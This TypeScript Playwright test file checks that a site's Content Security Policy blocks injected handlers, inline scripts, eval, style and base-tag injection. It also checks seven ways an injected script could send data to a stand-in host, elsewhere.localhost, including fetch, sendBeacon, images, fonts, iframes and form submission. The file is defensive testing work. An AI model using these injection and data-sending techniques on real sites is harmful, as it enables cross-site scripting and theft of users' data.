// Each violation is a console error, so every browser test also checks that the policy doesn't block the site itself.
import type { Page } from '@playwright/test';
import { expect, test } from './support/fixtures.ts';
import { watchViolations } from './support/xss-fixture.ts';

interface Injection {
  readonly name: string;
  /** Runs in the page. Returns true if it succeeded. */
  readonly attempt: () => boolean | Promise<boolean>;
}

/** Attempts of injected markup or an injected script. */
const injections: readonly Injection[] = [
  {
    name: 'a handler in markup made of text',
    attempt: () => {
      document.body.insertAdjacentHTML('beforeend', '<button id="injected" onclick="window.pwned = true"></button>');
      document.getElementById('injected')?.click();
      return 'pwned' in window;
    },
  },
  {
    name: 'an inline script',
    attempt: () => {
      const script = document.createElement('script');
      script.textContent = 'window.pwned = true';
      document.head.append(script);
      return 'pwned' in window;
    },
  },
  {
    name: 'eval',
    // In a timer: the policy does not apply to what the test itself runs.
    attempt: () =>
      new Promise<boolean>((resolve) => {
        setTimeout(() => {
          try {
            // biome-ignore lint/security/noGlobalEval: it must not work
            resolve(globalThis.eval('true') as boolean);
          } catch {
            resolve(false);
          }
        });
      }),
  },
  {
    name: 'a style element',
    attempt: () => {
      const style = document.createElement('style');
      style.textContent = 'body { display: none }';
      document.head.append(style);
      return getComputedStyle(document.body).display === 'none';
    },
  },
  {
    name: 'a style attribute',
    attempt: () => {
      document.body.setAttribute('style', 'display: none');
      return getComputedStyle(document.body).display === 'none';
    },
  },
  {
    name: 'another base for URLs',
    attempt: () => {
      const base = document.createElement('base');
      base.href = 'http://elsewhere.localhost/';
      document.head.append(base);
      return document.baseURI === base.href;
    },
  },
];

/** Ways for an injected script to send data to another host, each with the directive that blocks it. */
const leaks: readonly (readonly [directive: string, attempt: (url: string) => unknown])[] = [
  ['connect-src', (url) => void fetch(url).catch(() => undefined)],
  ['connect-src', (url) => navigator.sendBeacon(url, 'text')],
  ['img-src', (url) => Object.assign(new Image(), { src: url }).src],
  [
    'style-src-elem',
    (url) => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url })),
  ],
  ['font-src', (url) => void new FontFace('leak', `url(${url})`).load().catch(() => undefined)],
  ['frame-src', (url) => document.body.append(Object.assign(document.createElement('iframe'), { src: url }))],
  [
    'form-action',
    (url) => {
      const form = Object.assign(document.createElement('form'), { action: url });
      document.body.append(form);
      form.submit();
    },
  ],
];

/** Opens home without a part of its policy. */
async function openWithout(page: Page, part: RegExp, baseURL: string | undefined): Promise<void> {
  await page.route(`${baseURL}`, async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    expect(html).toMatch(part);
    await route.fulfill({ response, body: html.replace(part, '') });
  });
  await page.goto(`${baseURL}`);
}

const trustedTypes = /require-trusted-types-for [^;]+; trusted-types [^";]+/;

test.beforeEach(({ expectedErrors }) => {
  expectedErrors.push(/Content Security Policy|TrustedHTML|TrustedScript/);
});

for (const browser of ['with Trusted Types', 'without Trusted Types']) {
  test(`blocks every injection in a browser ${browser}`, async ({ page, baseURL, open }) => {
    const violations = await watchViolations(page);
    await (browser === 'with Trusted Types' ? open('/') : openWithout(page, trustedTypes, baseURL));
    for (const [count, { name, attempt }] of injections.entries()) {
      expect(await page.evaluate(attempt).catch(() => false), name).toBe(false);
      await expect.poll(() => violations.length, name).toBe(count + 1);
    }
  });
}

test('blocks every way to send data to another host, but images over https', async ({ page, open }) => {
  const violations = await watchViolations(page);
  await open('/');
  for (const [count, [directive, attempt]] of leaks.entries()) {
    await page.evaluate(attempt, 'http://elsewhere.localhost/');
    await expect.poll(() => violations.length, directive).toBe(count + 1);
    expect(violations[count]).toEqual({ directive, blocked: expect.stringMatching(/^http:\/\/elsewhere\.localhost/) });
  }
});
